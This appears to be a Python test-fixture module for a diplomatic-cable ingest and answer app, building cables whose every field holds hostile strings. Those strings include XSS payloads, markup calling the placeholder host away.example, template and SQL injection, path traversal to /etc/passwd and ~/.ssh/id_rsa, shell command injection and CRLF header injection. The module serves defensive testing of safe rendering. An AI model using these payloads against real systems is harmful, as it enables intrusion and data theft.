"""Texts that would do harm wherever one of them is taken for anything but text, and cables full of them.

What one of them would do is always the same, so that a test has only that to look for: `window.pwned` is set, a
dialog opens, or something is fetched from `AWAY`.
"""

import json
from collections.abc import Sequence
from itertools import product
from pathlib import Path

from scripted import citing

from assistant import Answer, Checked
from ingest import Cable
from ingest.domain.cable import ClassifiedBy, Paragraph, Reference, Span
from ingest.domain.limits import LONGEST_FIELD, LONGEST_TAG
from ingest.domain.serialization import to_json
from ingest.domain.statements import Attributed, Person, Statement

AWAY = "https://away.example"
RUN = "window.pwned=1"

_RUNNING = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/s.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}/i.png srcset='{AWAY}/2.png 2x'>",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='{AWAY}/s.svg#a'/><image href='{AWAY}/i.svg'/></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src={AWAY}/v.mp4 autoplay onerror={RUN}></video>",
    f"<object data={AWAY}/o></object><embed src={AWAY}/e>",
    f"<link rel=stylesheet href={AWAY}/l.css><style>@import '{AWAY}/i.css';</style>",
    f"<base href={AWAY}/><form action={AWAY}/f><button>Ask again</button></form>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<a href='javascript:{RUN}'>10BAKU79</a>",
)
_OUT_OF = ("", '">', "'>", "</textarea>", "</title></style></script>", "-->]]>", "</p></div></article>", '" x="')
_ATTRIBUTES = (
    f"\" onmouseover={RUN} style='position:fixed;inset:0' x=\"",
    f"' onfocus={RUN} autofocus tabindex=0 '",
    f'" style="background:url({AWAY}/b.png)',
    f"x` onclick={RUN}//",
    f'" formaction="{AWAY}/a',
    f'\\" onerror=\\"{RUN}',
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVa\tScRiPt:{RUN}",
    f"data:text/html,<script>opener.{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"//{AWAY[8:]}/x",
    f"/\\{AWAY[8:]}/x",
    f"{AWAY}/?q=cable",
    "https:away.example",
)
_MARKDOWN = (
    f"![x]({AWAY}/m.png)",
    f"[10BAKU79]({AWAY}/m)",
    f"[x](javascript:{RUN})",
    f"![x][away]\n[away]: {AWAY}/r.png",
    f"<{AWAY}/auto>",
    f"[^77]: {AWAY}",
    "# A heading | of | a table",
    "```html\n<script>fenced</script>\n```",
    "~~struck~~ `code` $$\\href{javascript:1}{x}$$ \\(x\\)",
    "- [ ] to do\n> quoted\n---",
)
_TEMPLATES = (
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7 * 7 }} {{ config }} {{ self.__init__.__globals__ }}",
    "{% for x in () %}{% endfor %}{% include '/etc/passwd' %}",
    "<%= 7 * 7 %> <? echo 1 ?> #{7 * 7} *{7 * 7} @(1+1)",
    "{@html value} {#if value}{/if} v-html=x ng-app",
    "{0} {0.__class__} {name!r} {} {{}}",
)
_STYLES = (
    f"<div style='background:url({AWAY}/c.png)'>styled</div>",
    f"<style>* {{ background: url({AWAY}/all.png); display: none }}</style>",
    f"width: expression({RUN}); -moz-binding: url({AWAY}/x.xml)",
    f"}} body {{ background: url({AWAY}/b.png) }} .x {{",
    f"</style><script>{RUN}</script>",
)
_ENTITIES = (
    "&lt;script&gt; &amp;lt;script&amp;gt; &#60;img&#62; &#x3c;svg&#x3e;",
    "&quot;&apos;&#34;&#39; onerror=x",
    f"&lt;img src=x onerror={RUN}&gt;",
    "&nbsp;&ZeroWidthSpace;&NotAnEntity;&#0;&#1114112;",
    f"%3Cscript%3E{RUN}%3C/script%3E +ADw-script+AD4-",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e \\x3cimg\\x3e",
)
_SIGNS = (
    "\u202eesrever\u202c in the middle \u202dforced\u202c",
    "\u2066isolated\u2069 \u2067never closed",
    "zero\u200bwidth\u200d\u2060joined\ufeff soft\u00adhyphen",
    "\u0627\u0644\u0648\u0632\u064a\u0631 \u05d4\u05e9\u05e8 (C) 10BAKU79 [77]",
    "H" + "\u0301\u0327\u0330\u0489" * 200,
    "\U000e0041\U000e0042 tags, \U0010ffff the last, \ufffe no sign",
    "\ufdfd\ufdfd \U0001f3f4\u200d\u2620\ufe0f \u2028 a line \u2029 a paragraph \x85 next",
    "fullwidth \uff1cscript\uff1e \u02bbquote\u02bc",
    "null \x00 bell \x07 back \x08 form \x0c del \x7f end \x1a",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J \x9b1A",
    "carriage\rreturn\r\nand feed",
    f"one\r\r![x]({AWAY}/after-a-blank-line.png)\r\r<b>bold</b>",
    f"two\x0b\x0b![x]({AWAY}/v.png)\x0c\x0c![x]({AWAY}/f.png)\x85\x85![x]({AWAY}/n.png)",
)
_PROGRAMS = (
    "'; DROP TABLE cables; --",
    '" OR 1=1 UNION SELECT raw FROM cables --',
    'NEAR(x, 5) AND NOT -"x* ^x {a}: (x',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd%00.txt",
    "C:\\windows\\..\\win.ini ~/.ssh/id_rsa file:///etc/passwd",
    "%s%s%n %(name)s %d $(id) `id` ; id | id && id",
    '=HYPERLINK("https://away.example") +1 @SUM(1)',
    "\r\nSet-Cookie: pwned=1\r\n\r\n<html>",
)
_OURS = (
    "[77] [0] [999] [-1]",
    "#/c/10BAKU79/5/0-99999999",
    "<a class=cite href='#/c/10BAKU79/1'>1<span class=said>, 10BAKU79 \u00b61</span></a>",
    "<button class=again>Ask again</button> <button class=hint>x</button>",
    "</div><div class='answer refusal'><p>The cables do not say.</p></div>",
    "<span class='marking unclassified'>UNCLASSIFIED</span>",
    "<svg class=timeline><a href='#/c/10BAKU79'>1</a></svg>",
    "<style>.answer { display: none }</style><p class=trouble>",
    "<div id=sources></div><div id=hover-card></div><dialog id=talks open>",
    "XXXXXXXXXXXX [name removed] (S/NF) \u00b61. 1. (U) END SUMMARY",
)

HOSTILE: tuple[str, ...] = (
    *(out + running for running, out in product(_RUNNING, _OUT_OF)),
    *_ATTRIBUTES,
    *_ADDRESSES,
    *_MARKDOWN,
    *_TEMPLATES,
    *_STYLES,
    *_ENTITIES,
    *_SIGNS,
    *_PROGRAMS,
    *_OURS,
)
LONG = f"<img src=x onerror={RUN}>" + "x" * 1_000_000  # a megabyte in one line, and in one word

_A_CABLE = 8  # of these texts, so that all of them fit into each field of it


def cables() -> list[Cable]:
    """Return cables that have, all together, each of the texts in every field that holds a text."""
    return [_cable(number, HOSTILE[at : at + _A_CABLE]) for number, at in enumerate(_beginnings(), start=1)]


def long_cable() -> Cable:
    """Return a cable whose second paragraph is a line of a megabyte."""
    return _cable(900, ["The ferry ran.", LONG])


def write(path: Path, *held: Cable) -> Path:
    """Write cables as the records of parsed cables, which are taken as they are; return the path."""
    path.write_text("".join(json.dumps(to_json(each)) + "\n" for each in held), encoding="utf-8")
    return path


def attribute(cable: Cable) -> Attributed:
    """Let each paragraph be said by somebody whose name and office are that paragraph's text."""
    said = [Statement(each.ordinal, 0, len(each.text), "said", each.text[:200]) for each in cable.paragraphs]
    people = [Person(each.speaker, (each.speaker,), (each.speaker,)) for each in said if each.speaker]
    return Attributed(tuple(said), tuple(people))


def answer(question: str, cable: Cable, texts: Sequence[str]) -> Answer:
    """Return an answer that says the texts and quotes the cable, with one of them wherever it has a text."""
    first = texts[0]
    quotes = [(cable, each.ordinal, each.text) for each in cable.paragraphs]
    said = "".join(f"{text} [{number % len(quotes) + 1}]\n\n" for number, text in enumerate(texts))
    doubts = (Checked(0, len(first), "unsupported", tuple(texts)),)
    return citing(
        question,
        said,
        *quotes,
        sentences=doubts,
        searched=first,
        understood=tuple(texts),
        note=" ".join(texts),
        model=first,
    )


def _beginnings() -> range:
    return range(0, len(HOSTILE), _A_CABLE)


def _printable(text: str) -> str:
    return "".join(filter(str.isprintable, text))


def _cable(number: int, texts: Sequence[str]) -> Cable:
    """A cable as no parser would read it, for here nothing is to be kept out by being no name, or no tag."""
    texts = [text.replace("\0", "") for text in texts]  # no library keeps a NUL
    id, everything = f"10REYKJAVIK{number}", " ".join(texts)
    raw, spans, paragraphs = "", [], []

    def add(text: str, kind: str, ordinal: int | None = None) -> tuple[int, int]:
        nonlocal raw
        start, raw = len(raw), raw + text
        spans.append(Span(start, len(raw), kind, ordinal))
        return start, len(raw)

    add(f"SUBJECT: {everything[:5000]}\n\n", "header")
    for ordinal, text in enumerate(texts, start=1):
        start, _ = add(f"{ordinal}. (C) ", "label", ordinal)
        piece = add(text, "text", ordinal)
        add("\n\n", "noise")
        short = text[:200]
        paragraphs.append(
            Paragraph(
                id, ordinal, ordinal, text, start, piece[1], (piece,), f"({short})", "C", (short,), "plain", short
            )
        )
    short = everything[:LONGEST_FIELD]
    return Cable(
        id,
        post=_printable(short),
        number=number,
        year=2010,
        raw=raw,
        paragraphs=tuple(paragraphs),
        spans=tuple(spans),
        origin=short,
        date=f"2010-02-{number % 28 + 1:02}T13:05Z",
        precedence=short,
        to=tuple(each[:200] for each in texts),
        info=tuple(each[:200] for each in texts),
        classification=short,
        captions=(short,),
        declassify_on=short,
        tags=tuple(each[:LONGEST_TAG] for each in texts),
        subject=short,
        references=tuple(Reference("A", f"09{_printable(each[:40])}", each[:200]) for each in texts),
        classified_by=ClassifiedBy(short),
        signature=short,
        notice=short,
    )
